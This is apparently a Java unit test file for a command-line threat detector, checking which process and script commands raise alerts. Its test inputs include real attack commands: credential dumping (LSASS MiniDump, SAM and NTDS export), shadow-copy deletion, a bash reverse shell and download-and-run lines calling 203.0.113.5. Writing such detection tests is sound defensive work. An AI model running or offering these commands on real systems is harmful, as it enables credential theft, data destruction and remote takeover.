package dev.vedette.detect.behaviour.command;

import static dev.vedette.detect.behaviour.Happenings.DAY;
import static dev.vedette.detect.behaviour.Happenings.HOUR;
import static dev.vedette.detect.behaviour.Happenings.MONDAY;
import static dev.vedette.detect.behaviour.Happenings.at;
import static dev.vedette.detect.behaviour.Happenings.start;
import static dev.vedette.detect.behaviour.ModelBench.reasons;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.detect.behaviour.Account;
import dev.vedette.detect.behaviour.Activity.ProcessStart;
import dev.vedette.detect.behaviour.Activity.ScriptRun;
import dev.vedette.detect.behaviour.ModelBench;
import dev.vedette.detect.behaviour.Program;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandLineTest {
  private final ModelBench bench = new ModelBench(CommandLine.NAME);

  @Test
  void tellsOfAnEncodedCommandInAHiddenWindowAndSaysWhy() {
    bench.take(
        command(
            MONDAY, "powershell.exe", "powershell -nop -w hidden -enc " + "JABzAD0A".repeat(20)));

    assertThat(bench.told())
        .singleElement()
        .satisfies(told ->
            assertThat(reasons(told))
                .contains("+35 an encoded command (-enc)")
                .contains("+30 160 characters in a row that look encoded")
                .contains("+20 a hidden window (-w hidden)")
                .contains("+8 PowerShell without profile or dialogue (-nop)"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
        "reg save HKLM\\SAM C:\\temp\\s",
        "v^s^s^admin delete shadows /all /quiet",
        "\"vssadmin.exe\"  delete   'shadows' /all",
        "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'",
        "sh -c \"curl http://203.0.113.5/x | sh\"",
        "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\" q q",
      })
  void tellsOfCommandsThatAreSeldomHarmless(String text) {
    bench.take(command(MONDAY, program(text), text));

    assertThat(bench.told()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL timedate.cpl",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Agent\\inventory.ps1\"",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1,2",
        "msiexec /i \\\\files\\software\\office.msi /qn",
        "net use H: \\\\files\\home",
        "schtasks /query /fo csv",
        "tar czf /backup/etc.tgz /etc",
        "systemctl restart nginx",
        "curl -fsS https://deb.example.org/key.asc -o /etc/apt/keyrings/key.asc",
        "git clone https://github.example.org/team/project.git",
        "ping -n 4 10.0.0.1",
      })
  void staysQuietAboutWhatPeopleAndMachinesDo(String text) {
    bench.take(command(MONDAY, program(text), text));

    assertThat(bench.told()).isEmpty();
  }

  @Test
  void readsScriptsAsItReadsCommands() {
    bench.take(
        script(
            MONDAY,
            "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://203.0.113.5/a.ps1')"));

    assertThat(bench.told())
        .singleElement()
        .satisfies(told ->
            assertThat(reasons(told))
                .contains("fetched from the network")
                .contains("run as a program"));
  }

  @Test
  void tellsOfOneScriptThatIsLoggedInManyPiecesOnce() {
    for (int i = 0; i < 100; i++) {
      bench.take(
          script(
              MONDAY + i,
              "part "
                  + i
                  + ": iex (New-Object Net.WebClient).DownloadString('http://203.0.113.5/')"));
    }

    assertThat(bench.told()).hasSize(1);
  }

  @Test
  void aCommandOfEveryDayStopsBeingTold() {
    var deploy =
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -w hidden -c iwr https://deploy.example.org/%d.ps1";
    for (int i = 0; i < 10 * 24 * 10; i++) {
      bench.take(command(MONDAY + i * HOUR / 10, "powershell.exe", deploy.formatted(i)));
    }
    bench.told();

    bench.take(command(MONDAY + 11 * DAY, "powershell.exe", deploy.formatted(77)));

    assertThat(bench.told()).isEmpty();
  }

  @Test
  void rehearsingDoesNotHideACommandWithSeveralReasons() {
    var attack = "powershell -nop -w hidden -enc " + "JABzAD0A".repeat(20);
    for (int i = 0; i < 14 * 24 * 10; i++) {
      bench.take(command(MONDAY + i * HOUR / 10, "powershell.exe", attack));
    }
    bench.told();

    bench.take(command(MONDAY + 16 * DAY, "powershell.exe", attack + "AAAA"));

    assertThat(bench.told()).hasSize(1);
  }

  @Test
  void aFloodOfOddCommandsDoesNotDrownTheWorst() {
    for (int i = 0; i < 500; i++) {
      bench.take(
          start(
              MONDAY + i,
              "host" + i,
              "explorer.exe",
              "C:\\Windows\\System32\\certutil.exe",
              "certutil -urlcache -f https://example.org/" + i,
              "u" + i));
    }
    bench.told();

    bench.take(
        command(MONDAY + HOUR, "rundll32.exe", "rundll32 comsvcs.dll,MiniDump 624 l.dmp full"));

    assertThat(bench.told()).hasSize(1);
  }

  private static String program(String text) {
    return text.startsWith("\"") || text.startsWith("C:")
        ? "other.exe"
        : text.substring(0, text.indexOf(' ')).replace("^", "");
  }

  private static ProcessStart command(long time, String program, String text) {
    var name = program.contains(".") || program.length() < 5 ? program : program + ".exe";
    return start(time, "ws1", "explorer.exe", name, text, "alice");
  }

  private static ScriptRun script(long time, String text) {
    return new ScriptRun(at(time, "ws1"), text, "", Program.NONE, new Account("alice", "acme", ""));
  }
}
